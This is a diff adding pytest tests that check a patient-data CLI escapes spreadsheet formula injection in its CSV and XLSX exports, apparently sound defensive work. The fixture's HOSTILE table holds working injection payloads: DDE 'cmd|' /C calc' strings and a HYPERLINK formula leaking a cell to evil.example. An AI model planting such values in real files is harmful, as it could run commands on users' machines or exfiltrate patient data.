@@ -280,3 +280,82 @@ def test_export_asks_what_to_write(patient):
     folder, _ = patient
     result = CliRunner().invoke(cli, ["export", CODE, "--db", str(folder / "coach.db")])
     assert result.exception.exit_code == 2 and "--csv FOLDER, --xlsx FILE or --fhir FILE" in str(result.exception)
+
+
+# ---- formula injection (issue 17, item 7) -------------------------------------------------------
+HOSTILE = {                        # (table, column): text a spreadsheet would run, or read as a number
+    ("patients", "display_name"): "-0.12",                                  # a number, but stored as text
+    ("treatments", "sites"): "=cmd|' /C calc'!A0",
+    ("treatments", "notes"): "+1+cmd|' /C calc'!A0",
+    ("sessions", "source"): '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    ("events", "measure"): "\r=2+5+cmd|' /C calc'!A0",
+    ("sessions", "model_version"): "\t=1+1",
+    ("sets", "exercise"): "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """P017's records with text that starts like a formula in text columns (one row of each table)."""
+    import sqlite3
+
+    folder = tmp_path_factory.mktemp("hostile")
+    build_patient(folder / "coach.db")
+    with Store.open(folder / "coach.db") as store:
+        store.add_treatment(CODE, "2024-03-20", "botulinum_toxin", "left", 5)
+    conn = sqlite3.connect(folder / "coach.db")
+    with conn:
+        for (table, column), text in HOSTILE.items():
+            conn.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = (SELECT min(rowid) FROM {table})", [text])
+    conn.close()
+    export(folder / "coach.db", "--csv", folder / "csv", "--xlsx", folder / "P017.xlsx")
+    return folder
+
+
+def csv_cells(folder) -> dict[str, list[list[str]]]:
+    out = {}
+    for path in sorted((folder / "csv").glob("*.csv")):
+        with open(path, newline="", encoding="utf-8") as f:
+            out[path.stem] = list(csv.reader(f))
+    return out
+
+
+def test_csv_cells_that_start_like_a_formula_are_text_and_numbers_stay_numbers(hostile):
+    cells = csv_cells(hostile)
+    # Every hostile text is there, whole, behind the single quote that makes it text.
+    for (table, column), text in HOSTILE.items():
+        name = "patient" if table == "patients" else table
+        header, *rows = cells[f"raw-{name}"]
+        assert "'" + text in [row[header.index(column)] for row in rows], (table, column)
+    exercise_ids = [row[5] for row in cells["sessions"][1:]]
+    assert "'" + HOSTILE[("sets", "exercise")] in exercise_ids
+    # No cell starts like a formula, except the numbers coach wrote itself.
+    for name, rows in cells.items():
+        for row in rows:
+            for cell in row:
+                if cell.startswith(FORMULA):
+                    assert cell.startswith("-") and float(cell) < 0, (name, cell)
+    # The negative numbers of the log (signed co-movement peaks) are numbers in the CSV, as stored.
+    header, *reps = cells["raw-reps"]
+    signed = [float(r[header.index("synkinesis_peak")]) for r in reps if r[header.index("synkinesis_peak")]]
+    stored = [p for (p,) in q(hostile / "coach.db", "SELECT synkinesis_peak FROM reps WHERE synkinesis_peak IS NOT "
+                                                    "NULL ORDER BY session_id, start_s")]
+    assert any(p < 0 for p in stored) and sorted(signed) == sorted(stored)
+
+
+def test_workbook_text_is_never_a_formula(hostile):
+    """In the workbook, text is a string cell (shown as written, never run): no sheet holds a formula."""
+    import zipfile
+
+    import openpyxl
+
+    with zipfile.ZipFile(hostile / "P017.xlsx") as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
+    book = openpyxl.load_workbook(hostile / "P017.xlsx")
+    texts = [c for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    same = lambda a, b: a.replace("\r", "\n") == b.replace("\r", "\n")    # noqa: E731 (XML reads CR as LF)
+    for text in HOSTILE.values():
+        found = [c for c in texts if same(c.value, text)]
+        assert found and all(c.data_type == "s" for c in found), text
